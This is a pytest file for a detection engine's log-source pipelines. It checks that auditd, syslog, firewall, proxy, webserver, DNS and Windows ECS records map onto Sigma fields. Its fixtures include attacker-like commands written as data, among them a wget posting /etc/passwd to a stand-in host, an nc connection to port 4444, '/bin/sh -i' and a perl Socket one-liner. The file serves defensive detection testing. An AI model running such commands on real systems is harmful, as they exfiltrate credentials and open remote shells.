"""How events meet their log sources, by the shipped pipelines: real shapes of each device, and hostile ones."""

from __future__ import annotations

from typing import Any

import pytest

from rules.engine import Engine, Event
from rules.engine.routing import Sources
from rules.logsources import (
    Reader,
    Reading,
    WindowsReader,
    find_pipeline,
    load_pipelines,
    seconds_of,
)
from rules.logsources.preparing import unhex
from tests.rules.helpers import rule


def read(pipeline: str, record: dict[str, Any]) -> Reading:
    found = Reader(load_pipelines([pipeline])).read(record)
    assert found is not None
    return found


def meets(pipeline: str, record: dict[str, Any], logsource: str, detection: str) -> bool:
    """Whether a rule with this log source and detection fires on the record of a file."""
    found = Reader(load_pipelines([pipeline])).read(record)
    if found is None:
        return False
    engine = Engine([rule(f"s: {detection}\ncondition: s", logsource=logsource)])
    assert engine.unsupported == []
    return bool(engine.process(Event("1", 0.0, "", "", "", found.fields), found.sources))


AUDITD = "{product: linux, service: auditd}"
PROCESS = "{product: linux, category: process_creation}"

EXECVE = {
    "type": "EXECVE",
    "msg": "audit(1626611363.720:348501):",
    "argc": "3",
    "a0": "chmod",
    "a1": "777",
    "a2": "/x",
}
SYSCALL = {
    "type": "SYSCALL", "msg": "audit(1626611363.720:348501):", "arch": "c000003e", "syscall": "59", "success": "yes",
    "exe": "/usr/bin/chmod", "comm": "chmod", "ppid": "10", "pid": "11", "euid": "33", "key": "web",
}  # fmt: skip
LAUREL = {
    "ID": "1626611363.720:348501",
    "SYSCALL": {
        "arch": "0xc000003e", "syscall": 59, "success": "yes", "exe": "/usr/bin/perl", "comm": "perl", "pid": 5,
        "ppid": 4, "SYSCALL": "execve", "UID": "www-data", "euid": 33, "ARGV": ["0x55c0", "0x1"],
    },
    "EXECVE": {"argc": 3, "ARGV": ["perl", "-e", "use Socket;"]},
    "CWD": {"cwd": "/root"},
    "PATH": [{"name": "/usr/bin/perl", "nametype": "NORMAL"}, {"name": "/etc/ld.so.preload", "nametype": "CREATE"}],
    "PPID": {"comm": "sh", "exe": "/usr/bin/dash", "ppid": 3},
}  # fmt: skip
AUDITBEAT = {
    "@timestamp": "2026-11-21T10:00:00Z",
    "event": {"module": "auditd", "action": "executed"},
    "auditd": {"message_type": "syscall", "data": {"syscall": "execve", "tty": "pts0"}, "result": "success",
               "paths": [{"name": "/usr/bin/wget", "nametype": "NORMAL"}]},
    "process": {"executable": "/usr/bin/wget", "name": "wget", "args": ["wget", "--post-file=/etc/passwd", "http://x"],
                "working_directory": "/tmp"},
    "user": {"name": "lan", "id": "1000"},
}  # fmt: skip


@pytest.mark.parametrize(
    ("record", "logsource", "detection"),
    [
        (EXECVE, AUDITD, "{type: EXECVE, a0: chmod, a1: 777}"),
        (EXECVE, PROCESS, "{CommandLine: 'chmod 777 /x'}"),
        ({**EXECVE, "a2": "2F746D702F78202D65"}, PROCESS, "{CommandLine: 'chmod 777 /tmp/x -e'}"),
        (SYSCALL, AUDITD, "{type: SYSCALL, SYSCALL: execve, euid: 33}"),
        (SYSCALL, PROCESS, "{Image|endswith: /chmod}"),
        (
            {"type": "PATH", "name": "/etc/ld.so.preload", "nametype": "CREATE"},
            AUDITD,
            "{type: PATH, name: /etc/ld*}",
        ),
        (
            {"type": "PATH", "name": "/etc/cron.d/x", "nametype": "CREATE"},
            "{product: linux, category: file_event}",
            "{TargetFilename|startswith: /etc/cron}",
        ),
        ({"type": "SERVICE_STOP", "unit": "ufw"}, AUDITD, "{type: SERVICE_STOP, unit: ufw}"),
        (
            {"type": "SYSCALL", "arch": "c00000b7", "syscall": "116", "a0": "5"},
            AUDITD,
            "{SYSCALL: syslog, a0: 5}",
        ),
        (LAUREL, AUDITD, "{type: EXECVE, a0: perl, a1: '-e'}"),
        (LAUREL, AUDITD, "{type: SYSCALL, SYSCALL: execve, exe|endswith: /perl}"),
        (LAUREL, AUDITD, "{type: PATH, name: /etc/ld.so.preload}"),
        (
            LAUREL,
            PROCESS,
            (
                "{Image: /usr/bin/perl, CommandLine|contains: Socket, ParentImage: /usr/bin/dash,"
                " CurrentDirectory: /root, User: www-data}"
            ),
        ),
        (
            {"ID": "1.2:3", "SYSCALL": {"SYSCALL": "socket", "ARGV": ["0x26", "0x5"]}},
            AUDITD,
            "{type: SYSCALL, SYSCALL: socket, a0: 26}",
        ),
        (
            {
                "ID": "1.2:3",
                "SYSCALL": {"SYSCALL": "connect", "exe": "/bin/nc"},
                "SOCKADDR": [{"SADDR": "{saddr_fam=inet laddr=203.0.113.9 lport=4444}"}],
            },
            "{product: linux, category: network_connection}",
            "{Image|endswith: /nc, DestinationIp: 203.0.113.9, DestinationPort: 4444, Initiated: 'true'}",
        ),
        (AUDITBEAT, AUDITD, "{type: EXECVE, a0: wget, a1|startswith: --post-file=}"),
        (AUDITBEAT, PROCESS, "{Image|endswith: /wget, CommandLine|contains: /etc/passwd, User: lan}"),
    ],
)
def test_audit_records_of_three_shapes_meet_sigmahqs_names(
    record: dict[str, Any], logsource: str, detection: str
) -> None:
    assert meets("linux-auditd", record, logsource, detection)


def test_an_audit_record_of_another_kind_starts_no_process() -> None:
    assert not meets(
        "linux-auditd", {"type": "SYSCALL", "SYSCALL": "openat", "exe": "/bin/sh"}, PROCESS, "{Image: '*'}"
    )
    failed = {**SYSCALL, "success": "no"}
    assert not meets("linux-auditd", failed, PROCESS, "{Image: '*'}")
    assert Reader(load_pipelines(["linux-auditd"])).read({"message": "x"}) is None


def test_audit_times_are_read_from_their_numbers() -> None:
    assert seconds_of(read("linux-auditd", EXECVE).time) == 1626611363.72
    assert seconds_of(read("linux-auditd", LAUREL).time) == 1626611363.72
    assert seconds_of(read("linux-auditd", AUDITBEAT).time) == 1795255200.0


@pytest.mark.parametrize(
    ("word", "text"),
    [
        ("2F62696E2F7368202D69", "/bin/sh -i"),
        ("6C73002D6C", "ls -l"),
        ("chmod", "chmod"),
        ("2020", "2020"),
        ("202020", "202020"),
        ("616263", "616263"),
        ("FFFEFD", "FFFEFD"),
        ("C3A9C3A8", "éè"),
        ("0A", "0A"),
    ],
)
def test_hexadecimal_words_are_read_only_where_audit_had_to_write_them_so(word: str, text: str) -> None:
    assert unhex(word) == text


SUDO = "lan : TTY=pts/0 ; PWD=/home/lan ; USER=#-1 ; COMMAND=/usr/bin/id"


@pytest.mark.parametrize(
    ("record", "services"),
    [
        ({"SYSLOG_IDENTIFIER": "sshd", "MESSAGE": "x"}, {"syslog", "auth", "sshd"}),
        ({"SYSLOG_IDENTIFIER": "sshd-session", "MESSAGE": "x"}, {"syslog", "auth", "sshd"}),
        ({"programname": "CRON", "msg": "x"}, {"syslog", "cron"}),
        ({"PROGRAM": "clamd", "MESSAGE": "x"}, {"syslog", "clamav"}),
        ({"appname": "vsftpd", "message": "x"}, {"syslog", "vsftpd"}),
        ({"appname": "guacd", "message": "x"}, {"syslog", "guacamole"}),
        ({"appname": "kernel", "syslogfacility-text": "authpriv"}, {"syslog", "auth"}),
        ({"log": {"syslog": {"appname": "sudo"}}, "message": SUDO}, {"syslog", "auth", "sudo"}),
        ({"process": {"name": "sshd"}, "event": {"dataset": "system.auth"}}, {"syslog", "auth", "sshd"}),
    ],
)
def test_a_programs_name_decides_the_services_of_a_syslog_message(
    record: dict[str, Any], services: set[str]
) -> None:
    assert read("linux-syslog", record).sources == Sources("linux", frozenset(services), frozenset())


def test_sudos_fields_are_read_from_its_message() -> None:
    assert meets(
        "linux-syslog",
        {"SYSLOG_IDENTIFIER": "sudo", "MESSAGE": SUDO},
        "{product: linux, service: sudo}",
        "{USER: '#-*', COMMAND: /usr/bin/id, TTY: pts/0, PWD: /home/lan}",
    )


def test_keywords_of_a_service_find_the_message_wherever_it_stands() -> None:
    record = {"programname": "sshd", "msg": "fatal: buffer_get_string: bad string", "hostname": "a"}
    engine = Engine(
        [rule("k: ['buffer_get_string: bad']\ncondition: k", logsource="{product: linux, service: sshd}")]
    )
    found = read("linux-syslog", record)
    assert engine.process(Event("1", 0.0, "", "", "", found.fields), found.sources)


@pytest.mark.parametrize(
    ("pipeline", "record", "detection"),
    [
        ("firewall", {"dst_port": 23, "action": "accept"}, "{dst_port: 23, action: accept}"),
        (
            "firewall",
            {"srcip": "10.0.0.1", "dstip": "10.0.0.2", "dstport": "23", "action": "accept"},
            "{src_ip: 10.0.0.1, dst_ip: 10.0.0.2, dst_port: 23, action: accept}",
        ),
        (
            "firewall",
            {
                "message": "[UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.9 DST=192.0.2.1 LEN=40 PROTO=TCP SPT=5 DPT=22 "
            },
            "{src_ip: 203.0.113.9, dst_ip: 192.0.2.1, dst_port: 22}",
        ),
        (
            "firewall",
            {
                "message": "forward: in:ether1 out:bridge, proto TCP (SYN), 10.0.0.9:51000->10.0.0.1:3389, len 52"
            },
            "{src_ip: 10.0.0.9, dst_ip: 10.0.0.1, dst_port: 3389}",
        ),
        (
            "firewall",
            {"src": "10.0.0.9", "dst": "10.0.0.1", "dpt": 22, "act": "deny"},
            "{dst_port: 22, action: deny}",
        ),
        (
            "firewall",
            {"source": {"ip": "10.0.0.9"}, "destination": {"ip": "10.0.0.1", "port": 22}},
            "{src_ip: 10.0.0.9, dst_port: 22}",
        ),
        (
            "proxy",
            {"c-uri": "http://x/a.exe", "c-useragent": "rclone/v1", "sc-status": 200},
            "{c-useragent|startswith: rclone}",
        ),
        (
            "proxy",
            {"cs-uri": "/news.php", "cs(User-Agent)": "curl", "cs-method": "GET"},
            "{c-uri: /news.php, c-useragent: curl, cs-method: GET}",
        ),
        (
            "proxy",
            {"hostname": "evil.top", "url": "/a.exe", "srcip": "10.0.0.1", "agent": "x"},
            "{cs-host|endswith: .top, c-uri|endswith: .exe, c-useragent: x}",
        ),
        (
            "proxy",
            {"url": "http://x/a", "method": "POST", "status": 200, "user_agent": ""},
            "{cs-method: POST, c-useragent: ''}",
        ),
        (
            "proxy",
            {
                "url": {"original": "http://x/a.zip", "extension": "zip", "domain": "x"},
                "user_agent": {"original": "U"},
            },
            "{c-uri|endswith: .zip, c-uri-extension: zip, cs-host: x, c-useragent: U}",
        ),
        (
            "webserver",
            {"cs-method": "GET", "cs-uri-query": "a=b", "sc-status": 200},
            "{cs-uri-query: a=b, sc-status: 200}",
        ),
        (
            "webserver",
            {"cs-method": "GET", "cs-uri-stem": "/x", "cs(User-Agent)": "sqlmap", "cs(Referer)": "r"},
            "{cs-user-agent: sqlmap, cs-referer: r, cs-uri-stem: /x}",
        ),
        (
            "webserver",
            {
                "message": '203.0.113.5 - lan [21/Nov/2026:10:00:00 +0700] "GET /a.php?x=1 HTTP/1.1" 404 1 "-" "sqlmap"'
            },
            (
                "{cs-method: GET, cs-uri-stem: /a.php, cs-uri-query: x=1, sc-status: 404, cs-user-agent: sqlmap,"
                " cs-username: lan}"
            ),
        ),
        (
            "webserver",
            {"request": "POST /mgmt/tm/util/bash HTTP/1.1", "status": "200", "http_user_agent": "curl"},
            "{cs-method: POST, cs-uri-stem|endswith: /bash, sc-status: 200, cs-user-agent: curl}",
        ),
        (
            "webserver",
            {"url": {"original": "/a?b", "path": "/a", "query": "b"}, "http": {"request": {"method": "GET"}}},
            "{cs-method: GET, cs-uri-stem: /a, cs-uri-query: b}",
        ),
        ("dns", {"query": "api.telegram.org", "record_type": "A"}, "{query: api.telegram.org}"),
        (
            "dns",
            {"message": "query[TXT] a.stage.123456.evil.example from 192.0.2.5"},
            "{query|contains: .stage., record_type: TXT}",
        ),
        ("dns", {"message": "reply x.example is 203.0.113.7"}, "{query: x.example, answer: 203.0.113.7}"),
        (
            "dns",
            {"message": "client @0x7f 192.0.2.5#53124 (x.example): query: x.example IN A +E(0)K (192.0.2.1)"},
            "{query: x.example, record_type: A}",
        ),
        (
            "dns",
            {"message": "[1:0] info: 192.0.2.5 x.example. AAAA IN"},
            "{query: x.example, record_type: AAAA}",
        ),
        (
            "dns",
            {"query": "x.example", "qtype_name": "TXT", "answers": ["cmd.exe /c"]},
            "{record_type: TXT, answer|contains: cmd}",
        ),
        (
            "dns",
            {"dns": {"question": {"name": "x.example", "type": "A"}, "answers": [{"data": "1.2.3.4"}]}},
            "{query: x.example, answer: 1.2.3.4}",
        ),
    ],
)
def test_devices_logs_of_each_shape_meet_sigmas_names(
    pipeline: str, record: dict[str, Any], detection: str
) -> None:
    assert meets(pipeline, record, f"{{category: {pipeline}}}", detection)


WINLOGBEAT = {
    "@timestamp": "2026-01-02T03:04:05Z",
    "winlog": {
        "channel": "Security", "event_id": 4688, "provider_name": "Microsoft-Windows-Security-Auditing",
        "event_data": {"NewProcessName": "C:\\cmd.exe", "CommandLine": "cmd /c", "Threat Name": "t"},
    },
    "event": {"code": "4688"},
}  # fmt: skip


@pytest.mark.parametrize(
    ("logsource", "detection"),
    [
        ("{product: windows, service: security}", "{EventID: 4688, NewProcessName|endswith: cmd.exe}"),
        ("{product: windows, category: process_creation}", "{Image|endswith: cmd.exe, CommandLine: cmd /c}"),
        ("{product: windows}", "{Provider_Name: Microsoft-Windows-Security-Auditing, ThreatName: t}"),
    ],
)
def test_windows_events_in_ecs_are_routed_like_any(logsource: str, detection: str) -> None:
    assert meets("ecs-windows", WINLOGBEAT, logsource, detection)
    assert WindowsReader().read(WINLOGBEAT) is None


def test_windows_events_in_ecs_written_with_dots_are_the_same() -> None:
    record = {
        "winlog.channel": "Security",
        "event.code": "4688",
        "winlog.event_data.NewProcessName": "C:\\cmd.exe",
    }
    assert meets(
        "ecs-windows", record, "{product: windows, category: process_creation}", "{Image|endswith: cmd.exe}"
    )


def test_endpoints_in_ecs_are_routed_by_category_and_type() -> None:
    record = {
        "event": {"category": ["process"], "type": ["start"]},
        "host": {"os": {"type": "linux"}},
        "process": {
            "executable": "/bin/sh",
            "command_line": "sh -i",
            "parent": {"executable": "/usr/sbin/nginx"},
        },
    }
    detection = "{Image: /bin/sh, CommandLine: sh -i, ParentImage|endswith: nginx}"
    assert meets("ecs-linux", record, PROCESS, detection)
    assert not meets("ecs-endpoint-windows", record, PROCESS, detection)


def test_the_default_of_scan_reads_windows_events_alone() -> None:
    windows = Reader([find_pipeline("windows")])
    for record in (EXECVE, LAUREL, AUDITBEAT, WINLOGBEAT, {"dst_ip": "10.0.0.1"}):
        assert windows.read(dict(record)) is None
